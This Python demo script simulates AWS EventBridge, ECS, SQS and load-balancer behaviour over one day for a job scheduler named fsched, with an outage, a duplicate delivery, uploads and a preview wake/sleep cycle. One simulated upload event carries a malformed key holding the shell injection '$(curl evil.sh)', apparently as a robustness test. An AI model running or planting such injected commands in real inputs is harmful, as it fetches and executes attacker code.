"""Plays EventBridge for scripts/demo: invokes the dispatcher with one scheduled event per simulated minute for a
day, starting at the minute after the jobs were applied, with a three-hour outage (no deliveries) and one duplicate
delivery; and, through demo_ecs, plays ECS: each launched task's state changes go to the recorder as ECS would send
them. Prints a line per hour that had activity to stderr, and the simulated window to stdout as shell assignments.

It also plays Lambda's SQS poller for the trigger function: whatever EventBridge delivered to the trigger queue (the
on_event rules `fsched apply` created, the command rule) is handed to the trigger as an SQS batch; and it plays an
uploader that puts two "File Uploaded" events on fsched's bus (one with a malformed value). And someone opening the
request-woken preview environment: its load balancer's request goes to the waker function (the ALB's event), the
service's task registers in its target group once it runs (as ECS would), and `fsched sleep` puts it back to sleep.

Usage: demo-ticks.py FUNCTIONS_URL CLUSTER BUS TRIGGER_QUEUE_URL (run with the emulator's Python, which has boto3)."""

import datetime as dt
import json
import os
import re
import sys
import urllib.error
import urllib.request

import boto3

from demo_ecs import Ecs

functions, cluster, bus, queue_url = sys.argv[1:5]
url = f"{functions}/fsched-dispatcher/invocations"
recorder_url = f"{functions}/fsched-recorder/invocations"
trigger_url = f"{functions}/fsched-trigger/invocations"
waker_url = f"{functions}/fsched-waker/invocations"
sqs = boto3.client("sqs")
events = boto3.client("events")
elbv2 = boto3.client("elbv2")
utc = dt.timezone.utc
start = (dt.datetime.now(utc) + dt.timedelta(minutes=1)).replace(second=0, microsecond=0)
end = start + dt.timedelta(days=1)
outage = (start + dt.timedelta(hours=10), start + dt.timedelta(hours=13))
duplicate = start + dt.timedelta(hours=2, minutes=15)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def invoke(target, event, what):
    req = urllib.request.Request(target, data=json.dumps(event).encode(), headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=300) as resp:
            return json.load(resp)
    except urllib.error.HTTPError as e:
        sys.exit(f"demo: the {what} failed: {e.read().decode(errors='replace')}")


ecs = Ecs(cluster, lambda event: invoke(recorder_url, event, "recorder"))


def pump(t):
    """Hands what the trigger queue holds to the trigger, as Lambda's SQS poller would; returns the runs it started."""
    started = []
    while True:
        got = sqs.receive_message(QueueUrl=queue_url, MaxNumberOfMessages=10,
                                  MessageSystemAttributeNames=["SentTimestamp"]).get("Messages", [])
        if not got:
            return started
        batch = {"Records": [{
            "messageId": m["MessageId"], "receiptHandle": m["ReceiptHandle"], "body": m["Body"],
            "attributes": m.get("Attributes", {}),
            "messageAttributes": {}, "eventSource": "aws:sqs", "awsRegion": sqs.meta.region_name,
            "eventSourceARN": "arn:aws:sqs:::fsched-trigger"} for m in got]}
        answer = invoke(trigger_url, batch, "trigger")
        failed = {f["itemIdentifier"] for f in answer.get("batchItemFailures", [])}
        for m in got:
            if m["MessageId"] in failed:
                print(f"  {t:%H:%M} UTC   the trigger could not handle a delivery (kept for the dead-letter queue)",
                      file=sys.stderr)
            sqs.delete_message(QueueUrl=queue_url, ReceiptHandle=m["ReceiptHandle"])
            body = json.loads(m["Body"])
            detail = body.get("detail", {})
            what = body.get("fsched_job") or detail.get("job") or f"service {detail.get('service', '?')}"
            started.append((what, m["MessageId"] not in failed))


preview_at = start + dt.timedelta(hours=1)
preview_ready = preview_at + dt.timedelta(minutes=3)
preview_sleep = preview_at + dt.timedelta(minutes=45)
preview_watch = {start + dt.timedelta(minutes=2), preview_at, preview_ready + dt.timedelta(minutes=2),
                 preview_sleep}


def forwards_to():
    """Where preview-app's listener rule sends requests now."""
    rule = elbv2.describe_rules(RuleArns=[os.environ["FSCHED_DEMO_PREVIEW_RULE"]])["Rules"][0]
    group = next(a["TargetGroupArn"] for a in rule["Actions"] if a["Type"] == "forward")
    return "the waker" if group == os.environ["FSCHED_WAKER_TARGET_GROUP"] else "preview-app's own target group"


def open_preview(t):
    """Someone opens preview.example.com while preview-app sleeps: the ALB hands the request to the waker."""
    event = {"requestContext": {"elb": {"targetGroupArn": os.environ["FSCHED_WAKER_TARGET_GROUP"]}},
             "httpMethod": "GET", "path": "/", "queryStringParameters": {}, "isBase64Encoded": False, "body": "",
             "headers": {"host": "preview.example.com", "accept": "text/html", "user-agent": "demo"}}
    answer = invoke(waker_url, event, "waker")
    body = answer.get("body", "")
    title = re.search(r"<title>(.*?)</title>", body)
    status = re.search(r'role="status"[^>]*>(.*?)</p>', body)
    if answer.get("statusCode") != 503 or not title or not status:
        sys.exit(f"demo: the waker's answer is not the starting page: {answer}")
    retry = answer.get("headers", {}).get("retry-after")
    print(f"  {t:%H:%M} UTC   someone opens preview.example.com: the waker answers {answer['statusCode']} "
          f"\"{title.group(1)}\" ({status.group(1)}), Retry-After {retry}", file=sys.stderr)


def preview_command(t, kind, words):
    detail = {"service": "preview-app", "requested_by": "ana (fsched sleep)"}
    events.put_events(Entries=[{"EventBusName": bus, "Source": "fsched.commands", "DetailType": kind,
                                "Detail": json.dumps(detail), "Time": t}])
    print(f"  {t:%H:%M} UTC   {words}", file=sys.stderr)


uploads = {
    start + dt.timedelta(hours=4, minutes=10): {"key": "uploads/orders-0412.csv", "bucket": "acme-inbox"},
    start + dt.timedelta(hours=4, minutes=40): {"key": {"$(curl evil.sh)": 1}, "bucket": "acme-inbox"},
}


wake_at = start + dt.timedelta(hours=5)


def wake(t):
    """Someone asks for the staging API on a Sunday, as `fsched wake staging-api --for 2h` does."""
    detail = {"service": "staging-api", "for": "2h", "requested_by": "ana (fsched wake)"}
    events.put_events(Entries=[{"EventBusName": bus, "Source": "fsched.commands", "DetailType": "Wake Service",
                                "Detail": json.dumps(detail), "Time": t}])
    print(f"  {t:%H:%M} UTC   \"Wake Service\" staging-api for 2h (fsched wake staging-api --for 2h)", file=sys.stderr)


def upload(t, detail):
    events.put_events(Entries=[{"EventBusName": bus, "Source": "acme.uploads", "DetailType": "File Uploaded",
                                "Detail": json.dumps(detail), "Time": t}])
    print(f"  {t:%H:%M} UTC   acme.uploads put \"File Uploaded\" on the bus: {json.dumps(detail)}", file=sys.stderr)


def tick(t):
    event = {
        "version": "0", "id": f"demo-{int(t.timestamp())}", "detail-type": "Scheduled Event",
        "source": "aws.scheduler", "account": "123456789012", "time": iso(t), "region": "eu-central-1",
        "resources": ["arn:aws:scheduler:eu-central-1:123456789012:schedule/default/fsched-DispatcherTick"],
        "detail": {"attempt": "1"},
    }
    body = invoke(url, event, f"dispatcher at {iso(t)}")
    if "errorType" in body:
        sys.exit(f"demo: the dispatcher failed at {iso(t)}: {body['errorType']}: {body.get('errorMessage')}")
    return body


hour = {}
totals = {"launched": 0, "missed": 0, "skipped": 0, "closed": 0, "launch_failed": 0}


def flush(label):
    if any(hour.values()):
        parts = [f"{k.replace('_', ' ')} {v}" for k, v in hour.items() if v]
        print(f"  {label}  " + ", ".join(parts), file=sys.stderr)
    hour.clear()


t = start
print(f"simulated day: {iso(start)} .. {iso(end)} (UTC); dispatcher down {iso(outage[0])} .. {iso(outage[1])}",
      file=sys.stderr)
while t < end:
    if t.minute == 0 and t != start:
        flush((t - dt.timedelta(hours=1)).strftime("%H:xx UTC"))
    if outage[0] <= t < outage[1]:
        if t == outage[0]:
            flush(t.strftime("%H:xx UTC"))
            print(f"  {t:%H:%M} UTC   -- outage: no ticks delivered for 3 hours (ECS events still recorded) --",
                  file=sys.stderr)
        ecs.advance(t)
        if pump(t):
            ecs.launched(t)
        t += dt.timedelta(minutes=1)
        continue
    deliveries = 2 if t == duplicate else 1
    for n in range(deliveries):
        report = tick(t)
        for key in totals:
            value = report.get(key, [])
            count = report.get("missed_total", 0) if key == "missed" else len(value)
            hour[key] = hour.get(key, 0) + count
            totals[key] += count
        if deliveries == 2 and n == 1:
            print(f"  {t:%H:%M} UTC   the same tick delivered again: launched {len(report['launched'])}",
                  file=sys.stderr)
        for run in report.get("launched", []):
            if not run.startswith("crm-sync/"):
                print(f"  {t:%H:%M} UTC   launched {run}", file=sys.stderr)
        if report.get("launched"):
            ecs.launched(t)
        services = report.get("services", {})
        for what in ("slept", "woke"):
            for name in services.get(what, []):
                print(f"  {t:%H:%M} UTC   service {name} {what}", file=sys.stderr)
        for note in services.get("drift", []):
            print(f"  {t:%H:%M} UTC   service {note}", file=sys.stderr)
    if t in uploads:
        upload(t, uploads[t])
    if t == wake_at:
        wake(t)
    if t == preview_at:
        open_preview(t)
    if t == preview_ready:
        elbv2.register_targets(TargetGroupArn=os.environ["FSCHED_DEMO_PREVIEW_GROUP"],
                               Targets=[{"Id": "10.0.1.17", "Port": 80}])
        print(f"  {t:%H:%M} UTC   preview-app's task is running and registers in its target group (as ECS does)",
              file=sys.stderr)
    if t == preview_sleep:
        preview_command(t, "Sleep Service", "\"Sleep Service\" preview-app (fsched sleep preview-app)")
    ecs.advance(t)
    handled = pump(t)
    for job, ok in handled:
        print(f"  {t:%H:%M} UTC   trigger: {'handled' if ok else 'FAILED'} a delivery for {job}", file=sys.stderr)
    if t in preview_watch:
        print(f"  {t:%H:%M} UTC   preview.example.com's listener rule forwards to {forwards_to()}", file=sys.stderr)
    if handled:
        ecs.launched(t)
    t += dt.timedelta(minutes=1)
flush(end.strftime("%H:xx UTC"))
print("day total: " + ", ".join(f"{k.replace('_', ' ')} {v}" for k, v in totals.items()), file=sys.stderr)
print("recorded endings: " + ", ".join(f"{k} {v}" for k, v in sorted(ecs.outcomes.items())), file=sys.stderr)
print(f"DEMO_START={iso(start)}")
print(f"DEMO_END={iso(end)}")
